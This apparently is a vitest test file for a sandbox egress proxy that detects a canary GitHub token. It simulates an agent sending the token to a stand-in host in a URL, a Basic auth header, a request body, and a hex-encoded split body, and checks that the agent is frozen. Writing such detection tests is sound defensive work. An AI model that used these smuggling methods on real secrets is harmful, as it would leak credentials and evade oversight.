/** A thief in a sandbox who found a credential that is none, and sends it through the door. */
import { connect } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startUpstream, type Upstream } from '../../src/testing/upstream.ts';
import { createEgressWorld, type EgressWorld } from './egress-world.ts';

let world: EgressWorld;
let upstream: Upstream;
let path: string;
let token: string;
let sent: string[];

beforeEach(async () => {
  world = await createEgressWorld();
  sent = [];
  upstream = await startUpstream((seen, response) => {
    sent.push(`${seen.url} ${JSON.stringify(seen.headers)} ${seen.body}`);
    response.end('thanks');
  });
  world.names['site.test'] = ['127.0.0.1'];
  await world.except('site.test', upstream.port);
  await world.allow(`site.test:${upstream.port}`);
  path = await world.door();
  const { text } = JSON.parse((await world.vault.host(`/canaries/${world.agent}`)).text);
  token = /github_token = (\S+)/.exec(text)?.[1] ?? '';
});
afterEach(async () => {
  await world[Symbol.asyncDispose]();
  await upstream[Symbol.asyncDispose]();
});

/** Writes the chunks one after the other and gives back what came until the proxy closed. */
function send(...chunks: string[]): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(path);
    let got = '';
    socket.on('data', (chunk: Buffer) => {
      got += chunk.toString('latin1');
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(got));
    for (const chunk of chunks) socket.write(chunk);
  });
}

const site = (): string => `site.test:${upstream.port}`;
const frozen = async (): Promise<string[]> =>
  JSON.parse((await world.vault.host('/freeze')).text).frozen.map((one: { agent: string }) => one.agent);
const post = (body: string, more = ''): string =>
  `POST http://${site()}/up HTTP/1.1\r\nHost: ${site()}\r\n${more}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n`;

describe('a canary in the door of a sandbox', () => {
  it.each([
    [
      'in the address',
      () => [
        `GET http://${site()}/?t=${encodeURIComponent(token)} HTTP/1.1\r\nHost: ${site()}\r\nConnection: close\r\n\r\n`,
      ],
    ],
    [
      'in a header',
      () => [
        `GET http://${site()}/ HTTP/1.1\r\nHost: ${site()}\r\nAuthorization: Basic ${Buffer.from(`x:${token}`).toString('base64')}\r\nConnection: close\r\n\r\n`,
      ],
    ],
    ['in a body', () => [post(token), token]],
  ])('%s freezes its agent before anything was sent', async (_where, chunks) => {
    await send(...chunks());
    await expect.poll(frozen).toEqual([world.agent]);
    expect(sent.filter((text) => text.includes(token))).toEqual([]);
    const again = await send(`GET http://${site()}/ HTTP/1.1\r\nHost: ${site()}\r\nConnection: close\r\n\r\n`);
    expect(again).toContain('canary');
    expect((await world.rows()).some(({ verdict }) => verdict === 'denied')).toBe(true);
  });

  it('cuts a body in the middle, wherever it is split', async () => {
    const text = `${'a'.repeat(50)}${Buffer.from(token).toString('hex')}${'b'.repeat(50)}`;
    await send(post(text), text.slice(0, 70), text.slice(70, 100), text.slice(100));
    await expect.poll(frozen).toEqual([world.agent]);
    expect(sent).toEqual([]);
  });

  it('is not seen in what is like one', async () => {
    const other = `ghp_${'a'.repeat(36)}`;
    expect(await send(post(other), other)).toContain('thanks');
    expect(await frozen()).toEqual([]);
  });
});
